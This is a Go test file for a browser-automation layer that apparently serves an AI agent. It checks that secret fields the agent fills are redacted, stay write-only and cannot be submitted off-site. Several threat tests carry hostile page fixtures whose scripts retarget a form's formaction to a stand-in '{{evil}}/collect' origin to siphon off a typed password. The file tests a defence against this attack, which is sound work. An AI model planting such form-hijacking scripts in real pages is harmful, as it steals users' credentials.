package browser

import (
	"errors"
	"fmt"
	"strings"
	"testing"
)

func TestThreatTaggedNodeIsWriteOnly(t *testing.T) {
	s := show(t, `<form><input name=f type=number step=1 required max=5 aria-label=Field><input name=other><button type=button>Off</button></form>`)
	field, other := s.named("f").UID, s.named("other").UID
	if got := s.write(field, "41"); got != OutcomeOK {
		t.Fatalf("Write = %q", got)
	}
	for _, text := range []string{"1", ""} {
		if _, err := s.tab.Type(t.Context(), field, text, TypeOptions{}); !errors.Is(err, ErrTagged) {
			t.Errorf("Type(%q) = %v, want ErrTagged", text, err)
		}
	}
	if _, err := s.tab.Click(t.Context(), field); err != nil { // moves the focus there, and does no more
		t.Fatal(err)
	}
	if got := s.eval(`document.activeElement.name`); got != `"f"` {
		t.Errorf("after Click the focus is in %s, want f", got)
	}
	for _, key := range []string{"ArrowUp", "ArrowDown", "PageUp", "Home", "Backspace", "Delete", "Space"} {
		if _, err := s.tab.Press(t.Context(), key); !errors.Is(err, ErrTagged) {
			t.Errorf("Press(%s) = %v, want ErrTagged", key, err)
		}
	}
	if got := s.valueOf("f"); got != `"41"` {
		t.Errorf("the field holds %s, want what was written", got)
	}
	if it := s.named("f"); it.Value.S != "" || it.Validation.S != "" || it.Invalid || it.Tagged != "REDACTED:test" {
		t.Errorf("a snapshot tells %+v", it)
	}
	for _, key := range []string{"Escape", "Tab"} {
		if _, err := s.tab.Press(t.Context(), key); err != nil {
			t.Errorf("Press(%s) = %v", key, err)
		}
	}
	if _, err := s.tab.Type(t.Context(), other, "fine", TypeOptions{}); err != nil {
		t.Errorf("Type into another field = %v", err)
	}
	if _, err := s.tab.Type(t.Context(), field, "33", TypeOptions{Clear: true}); err != nil {
		t.Errorf("Type with Clear = %v", err)
	}
	if got := s.valueOf("f"); got != `"33"` {
		t.Errorf("after Type with Clear the field holds %s, want the agent's words", got)
	}
	if it := s.named("f"); it.Value.S != "" || it.Tagged == "" {
		t.Errorf("what stands in it then is told as %+v, want it withheld", it)
	}
	if err := s.tab.Clear(t.Context(), field); err != nil {
		t.Errorf("Clear = %v", err)
	}
	if it := s.named("f"); it.Tagged != "" || it.Value.S != "" {
		t.Errorf("an emptied field is told as %+v, want it empty", it)
	}
}

func TestThreatTaggedChoiceShowsOnlyItsOptions(t *testing.T) {
	s := show(t, `<select name=m><option>1<option>2<option>3</select><input type=radio name=r value=a><input type=checkbox name=c checked>
<label>Box<input type=checkbox name=l></label>`)
	for _, name := range []string{"m", "r", "c", "l"} {
		if err := s.tab.Tag(t.Context(), s.named(name).UID, "REDACTED:x"); err != nil {
			t.Fatal(err)
		}
	}
	if got := s.write(s.named("m").UID, "2"); got != OutcomeOK {
		t.Fatalf("Write = %q", got)
	}
	m := s.named("m")
	if len(m.Options) != 3 || m.Value.S != "" {
		t.Errorf("a tagged select is told as %+v", m)
	}
	for _, o := range m.Options {
		if o.Selected || o.Label.S == "" {
			t.Errorf("its option is told as %+v, want a label and no state", o)
		}
	}
	for _, name := range []string{"r", "c"} {
		if it := s.named(name); it.Checked != nil {
			t.Errorf("tagged %s tells whether it is checked", name)
		}
		if _, err := s.tab.Click(t.Context(), s.named(name).UID); !errors.Is(err, ErrTagged) {
			t.Errorf("Click(%s) = %v, want ErrTagged", name, err)
		}
	}
	if _, err := s.tab.SelectOption(t.Context(), m.UID, []string{"1"}); !errors.Is(err, ErrTagged) {
		t.Errorf("SelectOption = %v, want ErrTagged", err)
	}
}

// A page that comes after a fill is fresh throughout, but for what one can choose: hiding that tells by elimination.
func TestThreatChoicesAreNeverFresh(t *testing.T) {
	s := show(t, `<input name=f><select name=m><option>1</select>`)
	if err := s.tab.context.Record(t.Context(), []string{s.tab.Origin()}); err != nil {
		t.Fatal(err)
	}
	s.eval(`(document.body.innerHTML = '<p>4242</p><select name=m><option value=4242>4242</select><input type=radio name=r value=4242>', 1)`)
	if it := s.find(func(it Item) bool { return it.Text.S == "4242" }); !it.Text.Fresh {
		t.Errorf("new text is told as %+v, want it fresh", it)
	}
	m := s.named("m")
	if len(m.Options) != 1 || m.Options[0].Label.Fresh || m.Options[0].Value.Fresh || m.Value.Fresh {
		t.Errorf("a new select is told as %+v, want nothing of it fresh", m)
	}
	if it := s.named("r"); it.Value.S != "4242" || it.Value.Fresh {
		t.Errorf("a new radio button is told as %+v, want its value not fresh", it)
	}
}

func TestTagFollowsAFieldThatIsRenderedAgain(t *testing.T) {
	s := show(t, `<form><input name=f></form>`)
	if got := s.write(s.named("f").UID, "hunter2hunter2"); got != OutcomeOK {
		t.Fatalf("Write = %q", got)
	}
	s.eval(`document.querySelector('form').innerHTML = '<input name=f value=hunter2hunter2><input name=g value=hunter2hunter2>'`)
	if it := s.named("f"); it.Tagged == "" || it.Value.S != "" {
		t.Errorf("the same field, made anew, is told as %+v, want it tagged", it)
	}
	if it := s.named("g"); it.Tagged != "" || it.Value.S == "" {
		t.Errorf("another field is told as %+v: tags follow names, never values", it)
	}
}

func TestTagAllTagsWhatComesLater(t *testing.T) {
	s := show(t, `<input name=a value=1><div id=d contenteditable>2</div><input type=checkbox name=c>
<select name=m><option>01<option selected>02<option>03</select>`)
	doc := s.tab.Document()
	if err := s.tab.TagAll(t.Context(), doc, "REDACTED:x"); err != nil {
		t.Fatal(err)
	}
	s.eval(`(document.body.insertAdjacentHTML('beforeend', '<textarea name=later>3</textarea>'), 1)`)
	for _, name := range []string{"a", "d", "later"} {
		if it := s.named(name); it.Tagged != "REDACTED:x" || it.Value.S != "" {
			t.Errorf("%s is told as %+v, want it tagged", name, it)
		}
	}
	if it := s.named("c"); it.Checked == nil {
		t.Error("a check box takes no secret and is not tagged")
	}
	if it := s.named("m"); it.Tagged == "" || it.Value.S != "" || len(it.Options) != 3 || it.Options[1].Selected {
		t.Errorf("a select is told as %+v, want it tagged: it may have been given its choice back", it)
	}
	if _, err := s.tab.Reload(t.Context(), NavigateOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := s.tab.TagAll(t.Context(), doc, "REDACTED:x"); !errors.Is(err, ErrStale) {
		t.Errorf("TagAll of the document before = %v, want ErrStale", err)
	}
}

func TestThreatFormIsNotSentElsewhere(t *testing.T) {
	s := show(t, `<form action="/submit"><input name=f><input name=g><button>Send</button><button type=button id=inject>Inject</button></form>
<script>inject.onclick = () => document.forms[0].querySelector('button').setAttribute('formaction', '{{evil}}/collect')</script>`)
	if got := s.write(s.named("f").UID, "hunter2hunter2"); got != OutcomeOK {
		t.Fatalf("Write = %q", got)
	}
	if _, err := s.tab.Click(t.Context(), s.saying("Inject").UID); err != nil {
		t.Fatal(err)
	}
	if _, err := s.tab.Click(t.Context(), s.saying("Send").UID); !errors.Is(err, ErrSubmitOrigin) {
		t.Errorf("Click = %v, want ErrSubmitOrigin", err)
	}
	if _, err := s.tab.Type(t.Context(), s.named("g").UID, "x", TypeOptions{Submit: true}); !errors.Is(err, ErrSubmitOrigin) {
		t.Errorf("Type with Submit = %v, want ErrSubmitOrigin", err)
	}
	if _, err := s.tab.Press(t.Context(), "Enter"); !errors.Is(err, ErrSubmitOrigin) {
		t.Errorf("Press(Enter) = %v, want ErrSubmitOrigin", err)
	}
	if s.site.Received(s.site.Evil, "hunter2hunter2") {
		t.Error("the hostile origin received the value")
	}
}

// A press on a label is a press on its button, also on one that nobody sees.
func TestThreatLabelOfAButtonSendsNothingElsewhere(t *testing.T) {
	s := show(t, `<form action="/submit" id=form><input name=f></form><label for=b style="cursor: pointer"><b>Continue</b></label><span id=place></span>
<button onclick="place.innerHTML = '<button id=b form=form hidden formaction={{evil}}/collect></button>'">Inject</button>`)
	if got := s.write(s.named("f").UID, "hunter2hunter2"); got != OutcomeOK {
		t.Fatalf("Write = %q", got)
	}
	if _, err := s.tab.Click(t.Context(), s.saying("Inject").UID); err != nil {
		t.Fatal(err)
	}
	if _, err := s.tab.Click(t.Context(), s.saying("Continue").UID); !errors.Is(err, ErrSubmitOrigin) {
		t.Errorf("Click on the label = %v, want ErrSubmitOrigin", err)
	}
	if s.site.Received(s.site.Evil, "hunter2hunter2") {
		t.Error("the hostile origin received the value")
	}
}

// An element of the page's own making hands the focus to a field inside it: typing into the one is typing into the other.
func TestThreatTypingIntoTheHostOfATaggedField(t *testing.T) {
	s := show(t, `<x-field tabindex=0 aria-label="Host" role=textbox></x-field><script>customElements.define('x-field', class extends HTMLElement {
  constructor() { super(); this.attachShadow({ mode: 'open', delegatesFocus: true }).innerHTML = '<input name=inner>'; }
  get value() { return this.shadowRoot.firstChild.value; } });</script>`)
	if got := s.write(s.named("inner").UID, "hunter2hunter2"); got != OutcomeOK {
		t.Fatalf("Write = %q", got)
	}
	host := s.find(func(it Item) bool { return it.Tag == "x-field" })
	if _, err := s.tab.Type(t.Context(), host.UID, "x", TypeOptions{}); !errors.Is(err, ErrTagged) {
		t.Errorf("Type into the host = %v, want ErrTagged", err)
	}
	if got := s.eval(`document.querySelector('x-field').value`); got != `"hunter2hunter2"` {
		t.Errorf("the field holds %s, want what was written", got)
	}
}

func TestThreatFilledTextHasNoOtherName(t *testing.T) {
	s := show(t, `<a id=e href="/x" contenteditable>&nbsp;</a><button aria-labelledby=e>Press</button><p>Before <b id=b>after</b></p>`)
	if err := s.tab.Tag(t.Context(), s.find(func(it Item) bool { return it.Tag == "a" }).UID, "REDACTED:x"); err != nil {
		t.Fatal(err)
	}
	s.eval(`(e.textContent = 'zephyr', 1)`)
	for _, later := range []string{`1`, `(e.removeAttribute('contenteditable'), 1)`, `(e.removeAttribute('href'), 1)`, `(b.append(e), 1)`} {
		s.eval(later)
		snap, err := s.tab.Snapshot(t.Context(), SnapshotOptions{Text: true})
		if err != nil {
			t.Fatal(err)
		}
		if told := fmt.Sprintf("%+v", snap); strings.Contains(told, "zephyr") || !strings.Contains(told, "REDACTED:x") || !strings.Contains(told, "Before") {
			t.Errorf("after %s a snapshot tells %s, want all but the filled text", later, told)
		}
	}
}
